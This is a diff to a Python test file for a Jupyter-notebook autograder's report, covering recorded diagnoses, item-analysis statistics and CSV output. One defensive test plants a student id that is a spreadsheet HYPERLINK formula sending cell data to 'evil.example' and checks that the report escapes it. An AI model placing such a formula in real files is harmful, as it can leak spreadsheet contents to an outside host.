@@ -25,7 +25,8 @@ from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_outp
 from nbgrader.api import Gradebook
 
 from autograder.checks.framework import diagnoses_in
-from autograder.notebooks import add_flag
+from autograder.notebooks import add_flag, diagnoses, set_record
+from autograder.record import CheckRecord, Diagnosis
 from autograder.tools import report
 from autograder.tools.demo import DEMO_PREFIX, load_samples
 from course.plots import COLORS
@@ -49,16 +50,20 @@ AUTO = {
     "frank": {"test_a": 3.0, "test_b": 2.0},
 }
 MANUAL = {"bob": 1.5}
-# outputs of the test cells, and of alice's answer cell (a student's own print of a fake diagnosis)
+# outputs of the test cells, and of alice's answer cell (a student's own print of a fake diagnosis);
+# only the records below count (a test cell's text is never read: carol's M5 is only text)
 STREAMS = {
     "alice": {"answer": "Diagnosis M3: I printed this myself\n"
                         "Flag [tampering]: and this, which is only text\n"},
+    "carol": {"test_a": "  Diagnosis M5: text in a test cell's output, without a record\n"},
     "bob": {
         "test_a": "f: part 1 failed\nDiagnosis M1: the output matches the unbiased variance\n",
         "test_b": "Diagnosis M1: again\nDiagnosis M7: running_var biased\n",
     },
-    "carol": {"test_b": "Diagnosis M1: the output matches the unbiased variance\n"},
 }
+STREAMS["carol"]["test_b"] = "Diagnosis M1: the output matches the unbiased variance\n"
+# the diagnoses the hidden checks recorded in each test cell's trusted metadata
+RECORDED = {"bob": {"test_a": ["M1"], "test_b": ["M1", "M7"]}, "carol": {"test_b": ["M1"]}}
 ERRORS = {  # error outputs (ename, evalue, traceback) in test_a
     "carol": ("RuntimeError", "grading stopped",
               [f"{RED}RuntimeError{RESET}: grading stopped",
@@ -124,6 +129,10 @@ def _autograded_notebook(student: str) -> nbformat.NotebookNode:
                                                   traceback=tb))
     for kind, reason in TRUSTED_FLAGS.get(student, []):
         add_flag(cells["test_a"], kind, reason)
+    for name, ids in RECORDED.get(student, {}).items():
+        record = CheckRecord("f", CELLS[name][1], 0.0, diagnoses=[
+            Diagnosis(mk, mk, "explained", "a part") for mk in ids])
+        set_record(cells[name], record.to_dict())
     written = _nbgrader_cell(new_markdown_cell("YOUR ANSWER HERE"), "answer_q", True, True, 2.0)
     return new_notebook(cells=[cells["answer"], cells["test_a"], cells["test_b"], written])
 
@@ -335,8 +344,8 @@ def test_malformed_autograded_notebook_is_flagged_not_fatal(course):
 def test_no_submissions_gives_a_report_that_says_so(course, capsys):
     html, rows, _ = _run_report(course, "hw2")
     assert rows == []
-    header = (course / "out" / "report.csv").read_text().splitlines()[0]
-    assert header == "student,score,max_score,later.ipynb,diagnoses,flags,status"
+    header = next(csv.reader(io.StringIO((course / "out" / "report.csv").read_text())))
+    assert header == ["student", "score", "max_score", "later.ipynb", "diagnoses", "flags", "status"]
     assert "No submissions for hw2" in html
     assert "hw2: no submissions yet." in capsys.readouterr().out
     _assert_offline(html)
@@ -411,12 +420,91 @@ def test_report_over_the_demo_matches_the_samples_and_nbgrader(demo_run, tmp_pat
             assert float(row["max_score"]) == float(nbgrader_row["max_score"])
             assert row["status"] == "graded" and row["flags"] == ""
             feedback = root / "feedback" / student / assignment / notebook.replace(".ipynb", ".html")
-            in_feedback = diagnoses_in(feedback.read_text())
-            assert set(row["diagnoses"].split()) == in_feedback, (assignment, name)
-            assert set(sample["expect"]["diagnoses"]) <= in_feedback, (assignment, name)
+            recorded = diagnoses(nbformat.read(root / "autograded" / student / assignment
+                                               / notebook, as_version=4))
+            assert set(row["diagnoses"].split()) == recorded, (assignment, name)
+            assert recorded <= diagnoses_in(feedback.read_text()), "the feedback shows each"
+            assert set(sample["expect"]["diagnoses"]) <= recorded, (assignment, name)
             declared.update(sample["expect"]["diagnoses"])
-            found.update(in_feedback)
+            found.update(recorded)
         table = _Tables((out / "report.html").read_text()).tables.get("mistakes", [])
         counts = {row[0]: int(row[2]) for row in table}
         assert counts == dict(found), assignment
         assert counts == dict(declared), assignment
+
+
+# ----------------------------------------------------------------------------- item analysis
+def test_item_analysis_against_values_worked_by_hand(rendered):
+    """Scores per student (alice, bob, carol, dan, frank), from AUTO and MANUAL above:
+    test_a [4, 2.5, 0, 0, 3], test_b [2, 0, 1, 0, 2]; answer_q is graded for bob only (1.5),
+    the others still wait (nbgrader's totals count them 0): totals [6, 4, 1, 0, 5].
+    Corrected item-total correlation, r(item, total - item):
+
+    test_a: rest [2, 1.5, 1, 0, 2]; deviations x [2.1, .6, -1.9, -1.9, 1.1], y [.7, .2, -.3,
+      -1.3, .7]; sum xy 5.4, sum x² 13.2, sum y² 2.8; r = 5.4 / sqrt(36.96) = 0.888.
+    test_b: rest [4, 4, 0, 0, 3]; x [1, -1, 0, -1, 1], y [1.8, 1.8, -2.2, -2.2, .8];
+      sum xy 3.0, sum x² 4, sum y² 16.8; r = 3 / sqrt(67.2) = 0.366.
+    answer_q: one student (bob, 1.5 of 2): mean 1.5, nobody at full marks, r undefined.
+    Means 9.5/5 = 1.9, 5/5 = 1; full marks 1/5, 2/5. Misconceptions in the test cells'
+    outputs: test_a M1 (bob); test_b M1 (bob, carol) and M7 (bob).
+    """
+    html = rendered[0]
+    items = {row[0]: row for row in _Tables(html).tables["items"]}
+    assert list(items) == ["test_a", "test_b", "answer_q"]
+    assert items["test_a"][1:] == ["test", "4", "5", "1.9", "20%", "0.89", "M1 ×1"]
+    assert items["test_b"][1:] == ["test", "2", "5", "1", "40%", "0.37", "M1 ×2, M7 ×1"]
+    assert items["answer_q"][1:] == ["written", "2", "1", "1.5", "0%", "-", "-"]
+    figures = re.findall(r'<img src="data:image/png;base64,([A-Za-z0-9+/=]+)"', html)
+    assert len(figures) == 2  # the histogram and the item-analysis heat map
+    assert base64.b64decode(figures[1]).startswith(b"\x89PNG\r\n\x1a\n")
+
+
+def test_corrected_item_total_correlation_matches_its_definition():
+    from autograder.tools.report.items import corrected_item_total
+
+    # an item that ranks students exactly as the rest does: r = 1; the reverse: r = -1
+    assert corrected_item_total([0, 1, 2], [0, 2, 4]) == pytest.approx(1.0)
+    assert corrected_item_total([2, 1, 0], [2, 2, 2]) == pytest.approx(-1.0)
+    assert corrected_item_total([1, 1, 1], [1, 2, 3]) is None  # constant item
+    assert corrected_item_total([1, 2], [1, 2]) is None  # fewer than three students
+    with pytest.raises(ValueError, match="same length"):
+        corrected_item_total([1, 2, 3], [1, 2])
+
+
+def test_a_written_answer_counts_once_graded(course):
+    """Once alice's answer is graded (2 of 2), answer_q has two students: bob 1.5 and alice 2;
+    the others still wait and stay out of it."""
+    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", course_id="report-test") as gb:
+        grade = gb.find_grade("answer_q", NOTEBOOK, ASSIGNMENT, "alice")
+        grade.manual_score = 2.0
+        grade.needs_manual_grade = False
+        gb.db.commit()
+    items = {i.cell: i for i in report.collect(ASSIGNMENT, course).items.items}
+    assert items["answer_q"].n == 2 and items["test_a"].n == 5
+    assert items["answer_q"].mean == pytest.approx(1.75)
+    assert items["answer_q"].full_share == pytest.approx(0.5)
+
+
+def test_report_csv_neutralizes_a_formula_in_a_student_id(course, tmp_path):
+    """Issue 19: a student id from a folder name reaches report.csv as text, not a formula."""
+    hostile = '=HYPERLINK("evil.example?"&A1,"x")'
+    (course / "submitted" / hostile / ASSIGNMENT).mkdir(parents=True)
+    import subprocess
+    import sys
+
+    from conftest import ROOT
+
+    out = subprocess.run([sys.executable, "-m", "autograder", "report", ASSIGNMENT, "--root",
+                          str(course)], cwd=ROOT, capture_output=True, text=True, timeout=300)
+    assert out.returncode == 0, out.stderr
+    with open(course / "reports" / ASSIGNMENT / "report.csv", newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    assert "'" + hostile in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_the_report_links_the_similarity_page_when_it_is_there(course):
+    out = course / "reports" / ASSIGNMENT
+    (out / "similarity.html").write_text("<html></html>")
+    assert report.main([ASSIGNMENT, "--root", str(course)]) == 0
+    assert '<a href="similarity.html">' in (out / "report.html").read_text()
